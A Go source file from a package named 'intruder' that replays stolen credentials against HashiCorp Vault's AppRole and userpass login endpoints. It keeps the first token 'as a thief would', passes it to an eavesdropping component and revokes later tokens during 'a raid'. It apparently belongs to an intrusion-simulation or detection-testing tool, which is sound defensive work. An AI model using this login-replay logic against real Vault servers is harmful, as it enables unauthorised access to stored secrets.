package intruder

import (
	"bytes"
	"context"
	"encoding/json"
	"io"
	"net/http"
	"net/url"
	"strings"
)

// notFound is the detail of a refusal that speaks of the place and of no right.
var notFound = http.StatusText(http.StatusNotFound)

// vaultOpener logs in with stolen logins to Vault, over plain HTTP calls of its
// own.
type vaultOpener struct {
	door   *door
	client *http.Client
}

func newVaultOpener(d *door) *vaultOpener {
	return &vaultOpener{door: d, client: &http.Client{
		Transport: &http.Transport{TLSClientConfig: d.tls, MaxIdleConnsPerHost: 1, DialContext: d.dialer().DialContext},
		Timeout:   lastPatience, // each call has a context besides
	}}
}

// try logs in, or for a session asks Vault about it. The first login's token is
// kept as a session, for a thief would keep one, and one to eavesdrop with;
// later ones are revoked, so that a long raid does not fill Vault with tokens.
func (o *vaultOpener) try(ctx context.Context, t *target) (answer, string, string) {
	if t.via == Session {
		a, detail, _ := o.call(ctx, http.MethodGet, "auth/token/lookup-self", t.token, nil)
		return a, detail, ""
	}
	path, with := "auth/"+strings.Trim(t.Mount, "/")+"/login", map[string]any{"role_id": t.RoleID, "secret_id": t.Password}
	if t.Kind == Userpass {
		path, with = path+"/"+url.PathEscape(t.User), map[string]any{"password": t.Password}
	}
	a, detail, token := o.login(ctx, path, "", with)
	if a != accepted {
		return a, detail, ""
	}
	first, heard := t.keepSession(), o.door.ear.take(o.door, t, token)
	switch {
	case first:
		return accepted, "", token
	case !heard:
		o.call(ctx, http.MethodPost, "auth/token/revoke-self", token, nil)
	}
	return accepted, "", ""
}

// login makes a call that answers with a token.
func (o *vaultOpener) login(ctx context.Context, path, token string, with map[string]any) (a answer, detail, got string) {
	a, detail, body := o.call(ctx, http.MethodPost, path, token, with)
	if a != accepted {
		return a, detail, ""
	}
	var login struct {
		Auth struct {
			Token string `json:"client_token"`
		} `json:"auth"`
	}
	if json.Unmarshal(body, &login) != nil || login.Auth.Token == "" {
		return noAnswer, "answered a login without a token", ""
	}
	return accepted, "", login.Auth.Token
}

func (o *vaultOpener) call(ctx context.Context, method, path, token string, body any) (answer, string, []byte) {
	var payload io.Reader
	if body != nil {
		b, err := json.Marshal(body)
		if err != nil {
			return noAnswer, "cannot write the request", nil
		}
		payload = bytes.NewReader(b)
	}
	req, err := http.NewRequestWithContext(ctx, method, strings.TrimSuffix(o.door.key.server, "/")+"/v1/"+path, payload)
	if err != nil {
		return noAnswer, "cannot write the request", nil
	}
	if token != "" {
		req.Header.Set("X-Vault-Token", token)
	}
	res, err := o.client.Do(req)
	if err != nil {
		return noAnswer, "cannot connect", nil
	}
	defer res.Body.Close()
	answered, err := io.ReadAll(io.LimitReader(res.Body, 1<<20))
	switch {
	case err != nil:
		return noAnswer, "the answer was cut short", nil
	case res.StatusCode < 300:
		return accepted, "", answered
	case res.StatusCode >= 500 || res.StatusCode == http.StatusTooManyRequests: // sealed, standby, overloaded
		return noAnswer, http.StatusText(res.StatusCode), nil
	default:
		return refused, http.StatusText(res.StatusCode), nil
	}
}

func (o *vaultOpener) close() { o.client.CloseIdleConnections() }
